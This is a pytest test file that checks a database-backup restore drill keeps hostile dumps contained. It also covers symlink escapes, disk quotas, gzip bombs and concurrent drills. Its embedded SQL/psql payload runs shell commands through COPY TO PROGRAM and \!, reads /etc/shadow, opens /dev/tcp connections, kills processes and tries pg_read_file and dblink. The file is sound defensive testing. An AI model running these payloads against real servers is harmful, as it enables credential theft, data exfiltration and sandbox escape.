"""A dump runs code when it is restored, and here it tries to get out. Full disks; drills at once."""

import gzip
import os
import socket
import subprocess
import sys
import tempfile
import threading
import time
from dataclasses import replace
from pathlib import Path

import pytest

from agent.drills.drill import LocalDrills
from agent.drills.journal import desk
from agent.drills.programs import installed
from agent.drills.settings import Drills
from agent.sources.backup import open_backups
from agent.sources.means import Means
from agent.sources.memory import Transient
from checks.backup.drill import Params

# Everything that a superuser of the scratch server can do: programs, files, functions, psql's own commands.
ATTEMPTS = r"""
CREATE TABLE got (line text);
CREATE TABLE tried (what text);
CREATE FUNCTION try(sql text) RETURNS void LANGUAGE plpgsql AS $$ BEGIN
  EXECUTE sql; INSERT INTO tried VALUES ('DONE ' || sql); EXCEPTION WHEN OTHERS THEN
  INSERT INTO tried VALUES (SQLERRM); END $$;
SELECT try($$COPY (SELECT 'written') TO PROGRAM 'cat > {outside}/by_program'$$);
\! echo by_psql > {outside}/by_psql
\! (id; ls -A /drill; cat /etc/shadow {secret}; ls {outside}; ps ax) > /drill/tmp/seen 2>&1
\! (exec 3<>/dev/tcp/127.0.0.1/{port}; echo hello >&3) 2>>/drill/tmp/seen
\! kill -9 {pid} 2>>/drill/tmp/seen
COPY got FROM PROGRAM 'cat /drill/tmp/seen; cat {secret} 2>&1; true';
SELECT try($$SELECT pg_read_file('{secret}')$$);
SELECT try($$CREATE EXTENSION dblink$$);
SELECT try($$SELECT dblink_connect('host=127.0.0.1 port={port} connect_timeout=3')$$);
SELECT try($$SELECT dblink_connect('host={outside} dbname=postgres')$$);
\! mkdir /drill/tmp/shut && chmod 000 /drill/tmp/shut /drill/tmp
"""
SHOWN = "(SELECT coalesce(string_agg(line, ' '), '') FROM got) AS s (t)"
ASKED = {
    "read": f"SELECT count(*) FROM {SHOWN} WHERE t LIKE '%not-the-cell%'",
    "processes": f"SELECT count(*) FROM {SHOWN} WHERE t LIKE '%bystander%'",
    "done": "SELECT count(*) FROM tried WHERE what LIKE 'DONE %' AND what NOT LIKE '%EXTENSION%'",
    "extension": "SELECT count(*) FROM pg_extension WHERE extname = 'dblink'",
    "ran": f"SELECT count(*) FROM {SHOWN} WHERE t LIKE '%uid=%'",
}
WANTED = {"read": "0", "processes": "0", "done": "0", "extension": "1", "ran": "1"}


@pytest.fixture
def listener():
    """A server of this machine that nobody may reach; what it heard."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.2)
        heard, over = [], threading.Event()

        def listen():
            while not over.is_set():
                try:
                    heard.append(server.accept()[0].close())
                except TimeoutError:
                    continue

        thread = threading.Thread(target=listen)
        thread.start()
        yield server.getsockname()[1], heard
        over.set()
        thread.join()


def test_a_dump_that_runs_code_reaches_no_network_no_file_and_no_process(site, tmp_path, listener):
    port, heard = listener
    outside = tmp_path / "outside"
    outside.mkdir(mode=0o777)
    outside.chmod(0o777)
    secret = tmp_path / "secret"
    secret.write_text("everybody may read this: not-the-cell\n")
    tmp_path.chmod(0o755)
    with subprocess.Popen([sys.executable, "-c", "input()", "bystander"], stdin=subprocess.PIPE) as bystander:
        text = ATTEMPTS.format(outside=outside, secret=secret, port=port, pid=bystander.pid)
        (tmp_path / "hostile.sql").write_text(text)
        asked = [{"id": name, "sql": sql, "expected": WANTED[name]} for name, sql in ASKED.items()]
        seen = site.drill(tmp_path / "hostile.sql", compare="none", questions=asked)
        assert bystander.poll() is None
        bystander.communicate(b"\n")
    assert list(outside.iterdir()) == []
    assert heard == []
    assert [(one.id, one.trouble, one.got == one.expected) for one in seen.one.questions] == [
        (name, "", True) for name in ASKED
    ]
    assert site.left() == []


def test_a_dump_that_switches_errors_off_is_not_believed(site, tmp_path):
    text = "CREATE TABLE t (a int);\n\\set ON_ERROR_STOP 0\nCOMMIT;\nINSERT INTO t VALUES ('x');\n"
    (tmp_path / "quiet.sql").write_text(text)
    seen = site.drill(tmp_path / "quiet.sql", compare="none")
    assert seen.said("restorable") == ("crit", "restore_failed")


def test_an_error_drowned_in_warnings_is_not_overheard(site, tmp_path):
    text = "CREATE TABLE t (a int);\n\\set ON_ERROR_STOP 0\nCOMMIT;\nINSERT INTO t VALUES ('x');\n"
    noise = "DO $$ BEGIN RAISE WARNING '%', repeat('x', 400000); END $$;\n"
    (tmp_path / "loud.sql").write_text(text + noise)
    seen = site.drill(tmp_path / "loud.sql", compare="none")
    assert seen.said("restorable") == ("unknown", "too_much")


@pytest.mark.parametrize("name", ["PG_VERSION", "backup_label"])
def test_links_in_a_base_backup_lead_nowhere_out_of_it(site, tmp_path, name):
    start = "START WAL LOCATION: 0/2000028 (file 000000010000000000000002)\n"
    held = {"PG_VERSION": "15\n", "backup_label": start}
    base, outside = tmp_path / "base", tmp_path / "outside"
    base.mkdir()
    outside.mkdir()
    for each, text in held.items():
        (outside / each).write_text(text)
        (base / each).write_text(text)
    (base / name).unlink()
    (base / name).symlink_to(outside / name)
    seen = site.drill(base, kind="basebackup")
    assert seen.one.reason == {"PG_VERSION": "unknown_format", "backup_label": "damaged"}[name]
    assert site.left() == []


@pytest.mark.skipif(os.geteuid() != 0, reason="NOT TESTED: to ask as another user takes root")
def test_a_program_that_another_user_owns_is_asked_as_that_user():
    with tempfile.TemporaryDirectory() as folder:
        place = Path(folder)
        place.chmod(0o777)
        program = place / "kingbase"
        program.write_text(f"#!/bin/sh\nid -u > {place}/uid\necho 'kingbase (KingbaseES) 12.1'\n")
        program.chmod(0o755)
        os.chown(program, 65534, 65534)
        found = installed(Drills(programs={"kingbase": (folder,)}), "kingbase")
        assert ([one.major for one in found], (place / "uid").read_text()) == ([12], "65534\n")


def test_a_disk_that_fills_up_ends_the_drill_and_says_so(site, source, tmp_path):
    if os.geteuid():
        pytest.skip("NOT TESTED: mounting a tmpfs needs root")
    small = tmp_path / "small"
    small.mkdir()
    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=30m", "tmpfs", small], check=False).returncode:
        pytest.skip("NOT TESTED: this machine lets nobody mount a tmpfs")
    try:
        site.given = replace(site.given, directory=str(small))
        seen = site.drill(source / "custom.dump")
        assert seen.said("restorable") == ("unknown", "no_room")
        assert list(small.iterdir()) == []
    finally:
        subprocess.run(["umount", small], check=True)
    seen.kept("unknown_no_room")


def test_a_dump_that_grows_past_the_quota_is_stopped(site, tmp_path):
    site.given = replace(site.given, quota_mb=100)
    fill = "INSERT INTO t SELECT repeat(md5(g::text), 30) FROM generate_series(1, 1000000) g;"
    (tmp_path / "bomb.sql").write_text(f"CREATE TABLE t (a text);\n{fill}\n")
    seen = site.drill(tmp_path / "bomb.sql")
    assert seen.said("restorable") == ("unknown", "no_room")
    assert site.left() == []


def test_a_bomb_is_unpacked_to_the_quota_and_no_further(site, tmp_path):
    site.given = replace(site.given, quota_mb=16)
    (tmp_path / "bomb.sql.gz").write_bytes(gzip.compress(gzip.compress(bytes(64 << 20), 1), 1))
    seen = site.drill(tmp_path / "bomb.sql.gz")
    assert seen.said("restorable") == ("unknown", "no_room")
    assert seen.one.ended == "open"
    assert site.left() == []


@pytest.mark.parametrize("kind", ["file", "tree"])
def test_what_grows_while_it_is_fetched_is_not_told(site, tmp_path, kind):
    path = tmp_path / "tree" / "公文.bin"
    path.parent.mkdir()
    path.write_bytes(bytes(3 << 20))
    wish = Params(path=str(path if kind == "file" else path.parent), kind=kind, compare="none")

    def progress(phase, done, _):
        if phase == "fetch" and done == 1 << 20:
            with path.open("ab") as file:
                file.write(b"more")

    backups = open_backups(Transient(), Means(state=site.state), time.time_ns() // 1_000_000)
    drilled, _ = LocalDrills(backups, site.given, site.state, progress).drill(wish)
    assert (drilled.reason, drilled.ended, drilled.attempt) == ("moving", "fetch", 1)
    assert site.left() == []


def test_an_artefact_larger_than_the_quota_is_not_begun_with(site, source):
    site.given = replace(site.given, quota_mb=1)
    big = source.place / "big.dump"
    with big.open("wb") as file:
        file.truncate(2 << 20)
    seen = site.drill(big)
    assert seen.said("restorable") == ("unknown", "no_room")
    assert seen.one.ended == "fetch"


def test_of_two_drills_at_once_the_second_is_refused_and_says_why(site, source):
    with desk(site.state):
        seen = site.drill(source / "custom.dump")
    assert seen.said("restorable") == ("unknown", "busy")
    assert (seen.one.attempt, seen.one.phases) == (0, ())
    seen.kept("unknown_busy")


def test_where_the_network_cannot_be_cut_nothing_is_restored(site, source, monkeypatch, tmp_path):
    # What stands in for the kernel's refusal: a first process that says it could not.
    init = tmp_path / "init.py"
    init.write_text(
        'import socket\ns = socket.socket(fileno=0)\ns.recv(1)\ns.send(b\'{"failed": "unshare: no"}\')\n'
    )
    monkeypatch.setattr("agent.drills.cell._INIT", init)
    seen = site.drill(source / "custom.dump")
    assert seen.said("restorable") == ("unknown", "no_network_cut")
    assert seen.one.target is None
    init.write_text(
        "import json, socket\ns = socket.socket(fileno=0)\nw = json.loads(s.recv(1 << 18))\n"
        "up = {'interfaces': ['lo', 'eth0'], 'up': ['eth0'], 'refused': [], 'tried': ['a'], 'mode': 'root'}\n"
        "s.send(json.dumps({'ready': {**up, 'uid': w['uid']}}).encode())\ns.recv(1)\n"
    )
    assert site.drill(source / "custom.dump").said("restorable") == ("unknown", "no_network_cut")
    assert site.left() == []
